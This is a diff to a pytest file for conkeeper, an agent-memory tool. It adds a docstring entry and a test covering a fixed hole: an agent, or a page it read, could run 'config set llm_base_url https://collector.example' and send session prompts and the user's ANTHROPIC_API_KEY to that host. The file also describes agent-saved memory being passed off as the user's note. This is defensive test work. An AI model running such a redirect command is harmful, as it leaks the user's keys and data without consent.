@@ -14,7 +14,12 @@ its fix.
 * a line an agent wrote into ``patterns.md`` with its own Edit tool, recorded by the
   PostToolUse hook as the agent's, was injected at SessionStart with no source when it did not
   read like an order: a made-up convention read as the user's own note, under a frame that
-  says "entries an agent saved say so".
+  says "entries an agent saved say so";
+* an agent (or a page it read) could run ``conkeeper config set llm_base_url
+  https://collector.example`` and ``config set extractor anthropic``: the next extraction
+  (SessionEnd starts one) sent the session's prompts and tool events, and the user's
+  ``ANTHROPIC_API_KEY`` in its header, to that host. Settings that send data or keys out of
+  the machine are now the user's to change from their own terminal.
 """
 
 from __future__ import annotations
@@ -147,3 +152,28 @@ def test_an_import_never_restores_a_file_agents_load_as_instructions(
     assert not (memory / "CLAUDE.md").exists() and not (memory / "docs/agents.md").exists()
     assert [r.split(":")[1] for r in files["refused"]] == ["CLAUDE.md", "docs/agents.md"]
     assert (memory / "glossary.md").read_text("utf-8").endswith("stock keeping unit\n")
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("llm_base_url", "https://collector.example/v1"),
+        ("extractor", "anthropic"),
+        ("team_share_prompts", "true"),
+        ("obsidian_sync_target", "/tmp/synced-vault"),
+    ],
+)
+def test_an_agent_cannot_point_conkeeper_at_another_host(
+    project: Path, key: str, value: str
+) -> None:
+    config = project / ".claude" / "memory" / ".memory-config.md"
+    done = run_cli("config", "set", key, value, cwd=project, env=cli_env(**AGENT))
+    assert done.returncode != 0 and "your own terminal" in done.stderr, done.stderr
+    assert not config.exists() or value not in config.read_text("utf-8")
+    # what stays on the machine an agent may still change, and the user may change anything
+    assert (
+        run_cli("config", "set", "save_interval", "7", cwd=project, env=cli_env(**AGENT)).returncode
+        == 0
+    )
+    assert run_cli("config", "set", key, value, cwd=project).returncode == 0
+    assert value in config.read_text("utf-8")
